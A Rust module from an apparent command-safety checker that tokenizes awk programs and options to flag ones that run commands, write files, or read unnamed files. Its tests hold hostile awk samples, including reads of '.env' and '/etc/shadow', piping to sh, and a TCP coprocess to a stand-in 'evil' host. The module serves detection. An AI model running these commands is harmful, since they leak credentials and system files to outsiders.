//! Awk, read for what its program does. The program is found where awk finds it: the values of
//! `-e`/`--source` (gawk), or else the first operand; a program read from a file (`-f`, `-E`,
//! `--file=`, `-fFILE`, mawk's `-W exec`) or included (`-i`, `@include`) cannot be read here
//! and is a hazard. The program text is tokenized (strings, regular expressions and comments
//! apart) and searched, anywhere in it, for `system()`, pipes and coprocesses, output
//! redirections of `print`/`printf` (`if (c) print x > "f"` too), `getline < FILE`, extensions
//! and indirect calls. The hazard table's awk row calls [`command_risk`]; the options that are
//! hazards on their own are in [`SPEC`].

use super::files::OUTPUT_FILE;
use super::interpreters::{INTERACTIVE, LOADS};
use super::spec::{Opt, Parsed, Risk, Role, Spec, Syntax};
use crate::Command;

/// A program read from a file.
pub const PROGRAM_FILE: Risk = Risk {
    id: "inline_code",
    why: "the awk program comes from a file the analysis cannot read",
};

/// gawk's options (mawk's and BWK awk's are a subset, plus mawk's `-W`). gawk stops at its
/// program and abbreviates its long options.
#[rustfmt::skip]
pub const SPEC: Spec = Spec::new(&["awk", "gawk", "mawk", "nawk", "original-awk"], Syntax::GNU_STOP, &[
    Opt::value(&["-f", "--file"]).role(Role::ProgramFile).risk(&PROGRAM_FILE),
    Opt::value(&["-E", "--exec"]).role(Role::ProgramFile).risk(&PROGRAM_FILE),
    Opt::value(&["-i", "--include"]).role(Role::ProgramFile).risk(&PROGRAM_FILE),
    Opt::value(&["-l", "--load"]).risk(&LOADS),
    Opt::value(&["-e", "--source"]).role(Role::Program),
    Opt::value(&["-v", "--assign"]), Opt::value(&["-F", "--field-separator"]), Opt::value(&["-W"]),
    Opt::optional(&["-d", "--dump-variables"]).role(Role::Writes).risk(&OUTPUT_FILE),
    Opt::optional(&["-o", "--pretty-print"]).role(Role::Writes).risk(&OUTPUT_FILE),
    Opt::optional(&["-p", "--profile"]).role(Role::Writes).risk(&OUTPUT_FILE),
    Opt::optional(&["-D", "--debug"]).risk(&INTERACTIVE), Opt::optional(&["-L", "--lint"]),
    Opt::flag(&["-b", "--characters-as-bytes"]), Opt::flag(&["-c", "--traditional"]), Opt::flag(&["-C", "--copyright"]),
    Opt::flag(&["-g", "--gen-pot"]), Opt::flag(&["-h", "--help"]), Opt::flag(&["-I", "--trace"]), Opt::flag(&["-k", "--csv"]),
    Opt::flag(&["-M", "--bignum"]), Opt::flag(&["-N", "--use-lc-numeric"]), Opt::flag(&["-n", "--non-decimal-data"]),
    Opt::flag(&["-O", "--optimize"]), Opt::flag(&["-P", "--posix"]), Opt::flag(&["-r", "--re-interval"]),
    Opt::flag(&["-s", "--no-optimize"]), Opt::flag(&["-S", "--sandbox"]), Opt::flag(&["-t", "--lint-old"]),
    Opt::flag(&["-V", "--version"]),
]);

/// `-W` values (gawk's long options, mawk's own) that neither run code nor write files.
const HARMLESS_W: &[&str] = &[
    "version",
    "help",
    "usage",
    "interactive",
    "posix_space",
    "posix",
    "random",
    "sprintf",
    "repetitions",
    "traditional",
    "lint",
    "lint-old",
    "characters-as-bytes",
    "copyright",
    "csv",
    "bignum",
    "use-lc-numeric",
    "non-decimal-data",
    "optimize",
    "no-optimize",
    "re-interval",
    "sandbox",
    "field-separator",
    "assign",
];

/// The awk program (the `-e`/`--source` values, or the first operand) calls `system()`, pipes,
/// redirects output, reads files with `getline`, loads extensions; or `-W` asks for something
/// that does; or the program is not static.
pub fn command_risk(command: &Command, parsed: &Parsed) -> Option<String> {
    for f in &parsed.options {
        if f.name == "-W" {
            let value = f.value.unwrap_or("");
            let name = value.split('=').next().unwrap_or("").trim();
            let harmless = !name.is_empty()
                && HARMLESS_W.iter().any(|h| {
                    h.starts_with(name) && !"exec".starts_with(name) && !"dump".starts_with(name)
                });
            if !harmless {
                return Some(format!(
                    "-W {value}: the program comes from a file or the option is not understood"
                ));
            }
        }
    }
    let words = &command.words[1..];
    let mut sources: Vec<(&str, bool)> = parsed
        .with_role(Role::Program)
        .filter_map(|f| {
            let fixed = f.value_at.is_none_or(|i| words[i].is_static());
            f.value.map(|v| (v, fixed))
        })
        .collect();
    let from_options = !sources.is_empty() || parsed.with_role(Role::ProgramFile).next().is_some();
    if !from_options {
        let &at = parsed.operands.first()?;
        sources.push((words[at].text.as_str(), words[at].is_static()));
    }
    for (text, fixed) in sources {
        if !fixed {
            return Some("the awk program is not static".into());
        }
        if let Some(risk) = program_risk(text) {
            return Some(risk);
        }
    }
    None
}

/// One token of an awk program, as far as the search needs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Token<'p> {
    Word(&'p str),
    /// A string, a regular expression or a number: an operand.
    Literal,
    Punct(char),
    /// A statement ends: newline or `;`.
    End,
}

/// Splits an awk program into tokens; comments dropped, strings and regexps as literals.
/// `incr_divides`: whether a `/` after `++` or `--` divides (gawk, BWK awk, busybox) or opens
/// a regular expression (mawk); the dialects disagree, so the program is read both ways.
fn tokens(program: &str, incr_divides: bool) -> Vec<Token<'_>> {
    let bytes = program.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    // Whether a `/` here would divide (after an operand) rather than open a regexp.
    let divides = |out: &Vec<Token>| match out.last() {
        Some(Token::Literal) | Some(Token::Punct(')' | ']' | '$')) => true,
        Some(Token::Punct(c @ ('+' | '-')))
            if out.len() >= 2 && out[out.len() - 2] == Token::Punct(*c) =>
        {
            incr_divides
        }
        Some(Token::Word(w)) => !matches!(
            *w,
            "print" | "printf" | "return" | "getline" | "in" | "case" | "do" | "else"
        ),
        _ => false,
    };
    while i < bytes.len() {
        let c = bytes[i];
        match c {
            b'#' => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
            }
            b'\n' | b';' => {
                out.push(Token::End);
                i += 1;
            }
            b'\\' if bytes.get(i + 1) == Some(&b'\n') => i += 2,
            b'"' => {
                i += 1;
                while i < bytes.len() && bytes[i] != b'"' {
                    i += if bytes[i] == b'\\' { 2 } else { 1 };
                }
                i += 1;
                out.push(Token::Literal);
            }
            b'/' if !divides(&out) => {
                i += 1;
                let mut class = false;
                while i < bytes.len() && (class || bytes[i] != b'/') && bytes[i] != b'\n' {
                    match bytes[i] {
                        b'\\' => i += 1,
                        b'[' => class = true,
                        b']' => class = false,
                        _ => {}
                    }
                    i += 1;
                }
                i += 1;
                out.push(Token::Literal);
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let start = i;
                while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_') {
                    i += 1;
                }
                out.push(Token::Word(&program[start..i]));
            }
            c if c.is_ascii_digit() || c == b'.' => {
                while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'.') {
                    i += 1;
                }
                out.push(Token::Literal);
            }
            c if c.is_ascii_whitespace() => i += 1,
            c if c.is_ascii() => {
                out.push(Token::Punct(c as char));
                i += 1;
            }
            _ => {
                // A non-ASCII character: part of no awk token that matters here.
                i += program[i..].chars().next().map_or(1, char::len_utf8);
            }
        }
    }
    out
}

/// What in an awk program runs code, writes files or reads files it names, anywhere in it.
/// String literals, regular expressions and comments are ignored.
pub fn program_risk(program: &str) -> Option<String> {
    reading_risk(&tokens(program, true)).or_else(|| reading_risk(&tokens(program, false)))
}

/// [`program_risk`] for one reading of the program.
fn reading_risk(t: &[Token]) -> Option<String> {
    let next_is = |i: usize, c: char| t.get(i + 1) == Some(&Token::Punct(c));
    // `system` then `(`, across line breaks.
    let called =
        |i: usize| t[i + 1..].iter().find(|t| **t != Token::End) == Some(&Token::Punct('('));
    for (i, token) in t.iter().enumerate() {
        match *token {
            Token::Word("system") if called(i) => return Some("calls system()".into()),
            // `ARGV[ARGC++] = "FILE"`, `split(s, ARGV)`: awk then reads files the command line
            // never named.
            Token::Word("ARGC")
                if matches!(
                    (t.get(i + 1), t.get(i + 2)),
                    (Some(Token::Punct('+')), Some(Token::Punct('+')))
                        | (Some(Token::Punct('-')), Some(Token::Punct('-')))
                        | (
                            Some(Token::Punct('+' | '-' | '*' | '/' | '%' | '^')),
                            Some(Token::Punct('='))
                        )
                ) || (next_is(i, '=') && t.get(i + 2) != Some(&Token::Punct('='))) =>
            {
                return Some("changes ARGC: reads files the command line does not name".into());
            }
            Token::Word("ARGV")
                if argv_assigned(&t[i + 1..])
                    || (i > 0 && matches!(t[i - 1], Token::Punct(',' | '('))) =>
            {
                return Some("changes ARGV: reads files the command line does not name".into());
            }
            Token::Punct('@') => {
                return Some(match t.get(i + 1) {
                    Some(Token::Word("load")) => "loads an extension".into(),
                    Some(Token::Word("include")) => "includes another program file".into(),
                    Some(Token::Word("namespace")) => continue,
                    _ => "makes an indirect function call".into(),
                });
            }
            Token::Punct('|') if !next_is(i, '|') && (i == 0 || t[i - 1] != Token::Punct('|')) => {
                return Some("pipes to or from a command".into());
            }
            Token::Word("getline") if getline_reads_file(&t[i + 1..]) => {
                return Some("reads a file with getline".into());
            }
            Token::Word("print" | "printf") if redirects(&t[i + 1..]) => {
                return Some("prints to a file".into());
            }
            _ => {}
        }
    }
    None
}

/// After `ARGV`: `[...]` then an assignment (`=`, `+=`… but not `==`).
fn argv_assigned(after: &[Token]) -> bool {
    if after.first() != Some(&Token::Punct('[')) {
        return false;
    }
    let mut depth = 0;
    for (i, t) in after.iter().enumerate() {
        match t {
            Token::Punct('[') => depth += 1,
            Token::Punct(']') => {
                depth -= 1;
                if depth == 0 {
                    return match (after.get(i + 1), after.get(i + 2)) {
                        (Some(Token::Punct('=')), next) => next != Some(&Token::Punct('=')),
                        (
                            Some(Token::Punct('+' | '-' | '*' | '/' | '%' | '^')),
                            Some(Token::Punct('=')),
                        ) => true,
                        _ => false,
                    };
                }
            }
            Token::End => return false,
            _ => {}
        }
    }
    false
}

/// `getline [var] < FILE`.
fn getline_reads_file(after: &[Token]) -> bool {
    let skip = match after.first() {
        Some(Token::Word(_)) => 1,
        Some(Token::Punct('$')) => 2,
        _ => 0,
    };
    after.get(skip) == Some(&Token::Punct('<'))
}

/// A `>` (or `>>`) at parenthesis depth 0 before the print statement ends.
fn redirects(after: &[Token]) -> bool {
    let mut depth = 0i32;
    for token in after {
        match token {
            Token::End | Token::Punct('}' | '{') if depth <= 0 => return false,
            Token::Punct('(' | '[') => depth += 1,
            Token::Punct(')' | ']') => depth -= 1,
            Token::Punct('>') if depth <= 0 => return true,
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn awk_programs_are_read_for_what_they_do() {
        for benign in [
            "{ print $1 }",
            "$3 > 100 { print $1 }",
            "{ print \"a > b\" }",
            "a || b { print }",
            "$0 ~ /a|b/ { print }",
            "/x>y/ { n++ } END { print n / 2 }",
            "{ print (a > b) }",
            "# print > \"f\" | sh\n{ print }",
            "{ s = substr($0, 1, 3); print s }",
            "@namespace \"x\"; { print }",
            "BEGIN { FS = \":\" } { printf \"%s\\n\", $1 }",
            "{ x++ / 2; print x }",
            "{ print ARGV[1], ARGC }",
            "ARGC == 2 { print }",
        ] {
            assert!(
                program_risk(benign).is_none(),
                "{benign}: {:?}",
                program_risk(benign)
            );
        }
        for risky in [
            "{ print > \"out\" }",
            "{ printf \"%s\", $0 >> \"out\" }",
            "{ if (NR > 1) print $0 > \"out\" }",
            "NR==1 { x = 1; print x, $2 > $3 }",
            "{ print (a, b) > \"f\" }",
            "{ print | \"sh\" }",
            "BEGIN { \"id\" | getline x }",
            "BEGIN { ARGV[ARGC++] = \".env\" } { print }",
            "BEGIN { ARGV[1] = \".env\" }",
            "BEGIN { ARGC = 3; ARGV[2] = \"x\" }",
            "BEGIN { split(\".env\", ARGV) }",
            "{ x++ / 2; system(\"id\") / 1 }",
            "{ x-- / 2; system(\"id\") }",
            "BEGIN { while ((getline l < \".env\") > 0) print l }",
            "BEGIN { getline < \"/etc/shadow\" }",
            "BEGIN{system (\"id\")}",
            "BEGIN { system\n(\"id\") }",
            "@load \"x\"",
            "@include \"lib.awk\"",
            "BEGIN { f = \"system\"; @f(\"id\") }",
            "BEGIN { print |& \"/inet/tcp/0/evil/80\" }",
        ] {
            assert!(program_risk(risky).is_some(), "{risky}");
        }
    }
}
